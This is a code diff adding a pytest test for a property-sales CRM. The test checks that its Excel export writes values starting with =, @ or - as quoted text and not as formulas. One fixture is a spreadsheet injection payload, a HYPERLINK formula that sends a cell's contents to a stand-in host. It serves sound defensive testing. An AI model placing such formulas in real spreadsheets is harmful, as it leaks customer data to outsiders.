@@ -222,3 +222,27 @@ def test_export_is_masked(store: Store, tmp_path: Path, capsys: pytest.CaptureFi
     assert "138****0001" in texts and "138****0002" in texts
     assert "贝壳" in [c.value for c in customers["E"]] and "认筹" in [c.value for c in customers["G"]]
     assert book["判客案件"].max_row == 2 and book["判客案件"]["B2"].value == "归属争议"
+
+
+def test_export_writes_notes_and_names_like_formulas_as_text(store: Store, tmp_path: Path) -> None:
+    note = '=HYPERLINK("http://x.example/?"&C2,"点击查看")'
+    store.add_channel("=渠道", ["@经纪人"])
+    store.record_report("=渠道", "@经纪人", "13812340001", "张三")
+    store.clock.at = T0 + timedelta(hours=1)  # type: ignore[attr-defined]
+    store.register_visit("13812340001", channel="=渠道", agent="@经纪人")
+    owner = store.register_visit("13812340002").assigned_to
+    store.register_visit("13812340002", consultant="王丽" if owner == "李强" else "李强")  # competing: a case
+    for day in (1, 2, 3):
+        store.clock.at = T0 + timedelta(days=day, hours=-1)  # type: ignore[attr-defined]
+        store.register_visit("13812340001")  # repeat visits without a pledge: a warning
+    site = store.site()
+    store.decide_case(next(iter(site.cases)), "王丽", "-经理核实", by="经理")
+    store.update_warning(next(iter(site.warnings)), "following", note, by="王丽")
+    target = tmp_path / "out.xlsx"
+    assert main(["export", "--out", str(target)]) == 0
+    book = openpyxl.load_workbook(target)
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"] == []
+    texts = {c.value for c in cells if c.data_type == "s"}
+    assert {"'" + note, "'=渠道", "'@经纪人", "'-经理核实"} <= texts  # shown as written, after the quote
+    assert isinstance(book["客户"]["A2"].value, int) and book["客户"]["I2"].is_date  # ids and times as written
